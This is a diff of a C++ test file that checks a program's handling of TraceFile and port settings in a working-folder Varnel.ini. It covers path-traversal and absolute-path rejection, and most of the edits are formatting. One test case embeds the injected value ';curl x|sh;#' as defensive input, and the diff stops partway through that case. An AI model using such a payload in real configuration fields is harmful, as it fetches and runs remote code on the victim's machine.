@@ -18,7 +18,6 @@ namespace {
 
 class GuiLogFileTest : public GuiHandsetTest {
  protected:
-
   // Connects with the main button and disconnects again.
   void ConnectAndDisconnect() {
     Connect();
@@ -37,7 +36,6 @@ class GuiLogFileTest : public GuiHandsetTest {
     file->actions().front()->trigger();
     ASSERT_TRUE(dialog.Done());
   }
-
 };
 
 TEST_F(GuiLogFileTest, SaveLogWritesTheLinesAsShown) {
@@ -111,10 +109,14 @@ TEST_F(GuiLogFileTest, ASettingsFileOfTheWorkingFolderKeepsTheTraceAndThePortInI
     bool connects;
   };
   const std::vector<Case> kCases = {
-      {"TraceFile=../" + outside.filename().string(), "No line trace: TraceFile=../" + outside.filename().string() +
-           " ignored; a Varnel.ini in the working folder may name only a file in that folder", true},
-      {"TraceFile=" + absolute, "No line trace: TraceFile=" + absolute +
-           " ignored; a Varnel.ini in the working folder may name only a file in that folder", true},
+      {"TraceFile=../" + outside.filename().string(),
+       "No line trace: TraceFile=../" + outside.filename().string() +
+           " ignored; a Varnel.ini in the working folder may name only a file in that folder",
+       true},
+      {"TraceFile=" + absolute,
+       "No line trace: TraceFile=" + absolute +
+           " ignored; a Varnel.ini in the working folder may name only a file in that folder",
+       true},
       {"TraceFile=Varnel.res", "No line trace: Varnel.res is a file the program reads or writes", true},
       {"TraceFile=link.txt", "No line trace: can't write link.txt", true},
       {"ComPort=2\nTraceFile=../x\n[Ports]\nCOM2=" + absolute + ";curl x|sh;#",
